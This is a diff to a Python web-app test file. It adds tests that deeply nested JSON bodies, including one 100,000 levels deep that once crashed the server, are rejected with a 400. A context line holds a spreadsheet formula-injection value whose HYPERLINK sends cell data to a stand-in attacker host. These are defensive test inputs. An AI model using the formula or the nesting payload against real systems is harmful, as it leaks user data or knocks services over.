@@ -12,6 +12,7 @@ from openpyxl import load_workbook
 
 from tests.e2e.web_helpers import HEAD, MONITOR, STAFF, WebWorld, build_world
 from tests.support.office import KSTTHC
+from web.limits import MAX_JSON_DEPTH
 
 TEMPLATES = Path(__file__).resolve().parents[2] / "web" / "templates"
 INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Bấm để xem")'
@@ -80,3 +81,25 @@ def test_a_form_field_past_the_limit_is_a_400_naming_the_field(world: WebWorld) 
     response = world.client(HEAD).post(f"/steps/{world.step('assign')}/extension",
                                        data={"new_due": "2024-04-30", "reason": "x" * 60_000})
     assert response.status_code == 400
+
+
+
+def nested(depth: int) -> str:
+    return "[" * depth + "]" * depth
+
+
+@pytest.mark.parametrize("body", [nested(100_000),  # past Python's recursion limit: it was a 500
+                                  '{"assignee": %d, "note": ' + nested(MAX_JSON_DEPTH) + "}"])
+def test_a_json_body_nested_deeper_than_any_command_is_a_400_that_says_so(world: WebWorld, body: str) -> None:
+    response = world.client(HEAD).post(f"/api/steps/{world.step('assign')}/complete",
+                                       data=body.replace("%d", str(world.office.users[STAFF])),
+                                       content_type="application/json")
+    assert response.status_code == 400 and response.get_json()["error"]["code"] == "bad_request"
+    assert world.step("assign")  # still waiting
+
+
+def test_a_json_body_nested_to_the_limit_is_read(world: WebWorld) -> None:
+    body = '{"assignee": %d, "note": %s}' % (world.office.users[STAFF], nested(MAX_JSON_DEPTH - 1))
+    response = world.client(HEAD).post(f"/api/steps/{world.step('assign')}/complete", data=body,
+                                       content_type="application/json")
+    assert response.status_code == 200, response.get_data(as_text=True)
